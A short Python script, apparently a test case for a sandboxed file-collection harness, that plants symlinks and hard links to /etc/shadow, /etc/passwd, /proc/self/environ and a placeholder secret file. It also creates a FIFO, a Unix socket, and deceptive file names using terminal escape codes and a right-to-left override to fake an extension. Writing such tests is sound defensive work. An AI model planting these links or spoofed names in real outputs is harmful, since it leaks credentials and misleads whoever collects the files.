# attack: Hands back links, FIFOs, sockets and names that whoever collects the files might follow.
# needs: host_files=hidden|closed
# files: honest.txt
import contextlib
import os
import socket

for number, target in enumerate(
    ["@SECRET_FILE@", "/etc/shadow", "/etc/passwd", "/proc/self/environ", "/proc/1/environ", "."]
):
    os.symlink(target, f"link-{number}")
    with contextlib.suppress(OSError):
        os.link(target, f"hard-{number}", follow_symlinks=False)
os.mkfifo("fifo")
with contextlib.suppress(OSError):
    socket.socket(socket.AF_UNIX).bind("socket")
os.mkdir("folder")
for name in ("line\nbreak", "..dots", "\udcff", "\x1b[2J", "\u202egnp.exe"):
    with contextlib.suppress(OSError):
        os.close(os.open(name, os.O_CREAT))
with open("honest.txt", "w") as file:
    file.write("honest")
print("tried")
